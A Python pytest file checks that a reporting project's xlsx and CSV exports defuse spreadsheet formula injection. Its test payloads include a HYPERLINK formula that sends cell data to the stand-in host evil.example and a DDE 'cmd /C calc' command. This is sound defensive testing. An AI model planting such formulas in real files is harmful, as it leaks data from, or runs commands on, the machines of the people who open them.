"""CSV injection: whatever a source wrote, no file that people open in a spreadsheet has a formula of it."""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

import duckdb
import pytest
from openpyxl import load_workbook

from flows.automation.actions import register
from flows.automation.contract import Refused
from flows.reporting import workbook
from flows.spreadsheets import BEGINS_A_FORMULA, is_formula
from tests.flows.reporting.small_marts import small_marts

__all__ = ["small_marts"]
PROJECT = Path(__file__).resolve().parents[2]
EVIL = [f"{sign}HYPERLINK(\"http://evil.example?\"&A1;\"x\")" for sign in BEGINS_A_FORMULA] + ["-2+3+cmd|' /C calc'!A0", "\t=1+1", "\r\n=1+1", "=1\x00+1"]
FREE_TEXT = {"kpi_catalogue": ("title_en", "title_zh", "question", "definition", "owner", "source_note"), "scorecard": ("title_en", "title_zh", "owner")}
# What writes a file for a spreadsheet, and what only looks like it: rows for PostgreSQL go to a file that nobody but it reads.
EXPORTERS = {"flows/reporting/workbook.py", "flows/automation/actions/register.py"}
OF_NOBODY = {"flows/store/pg_load.py", "flows/dialects/moving.py"}


@pytest.mark.parametrize("language", ["en", "zh-CN"])
@pytest.mark.parametrize("evil", EVIL)
def test_in_the_workbook_every_text_is_text_and_stays_one_when_its_cell_is_edited(small_marts: duckdb.DuckDBPyConnection, evil: str, language: workbook.Language) -> None:
    for table, columns in FREE_TEXT.items():
        small_marts.execute(f"update {table} set {', '.join(f'{column} = ?' for column in columns)}", [evil] * len(columns))
    book = load_workbook(io.BytesIO(workbook.scorecard(small_marts, language, company=evil, currency="EUR")))
    cells = [cell for sheet in book for row in sheet.iter_rows() for cell in row]
    planted = [cell for cell in cells if isinstance(cell.value, str) and is_formula(cell.value)]
    assert len(planted) >= 3 * 9, "they are there, in every column that people write"
    assert {cell.data_type for cell in cells} <= {"s", "n", "d"}, "not one formula"
    assert all(cell.quotePrefix for cell in planted)


@pytest.mark.parametrize("evil", [one for one in EVIL if "\x00" not in one])
@pytest.mark.parametrize("column", ["project", "kpi", "unit", "segment_type", "segment", "expected_effect", "guard_rails"])
def test_in_a_register_that_people_keep_no_cell_begins_a_formula(tmp_path: Path, column: str, evil: str) -> None:
    given = {"project": "Fewer late parcels", "kpi": "late_rate", "direction": "lower", "registered_on": "2026-07-01", "starts_on": "2026-07-13", column: evil}
    with register.KIND.open({"folder": str(tmp_path)}, {}) as folder:
        with pytest.raises(Refused, match="which a spreadsheet would run as a formula"):
            register.ACTIONS[0].act(folder, given, {}, "m")
        register.ACTIONS[0].act(folder, {**given, column: "fine", "expected_effect": "-0.1"}, {}, "m")
    with (tmp_path / "projects.csv").open(encoding="utf-8", newline="") as file:
        assert [[name for name, value in row.items() if is_formula(value)] for row in csv.DictReader(file)] == [["expected_effect"]], "a number"


def test_nothing_else_writes_for_spreadsheets() -> None:
    """A new exporter is named here, and tested above."""
    writes = re.compile(r"csv\.(Dict)?writer|csv\.DictWriter|Workbook\(\)|to_csv|to_excel|xlsxwriter|format csv", re.IGNORECASE)
    found = {str(path.relative_to(PROJECT)) for folder in ("flows", "bi", "connectors", "expectations") for path in (PROJECT / folder).rglob("*.py")
             if writes.search(path.read_text(encoding="utf-8"))}
    assert found == EXPORTERS | OF_NOBODY
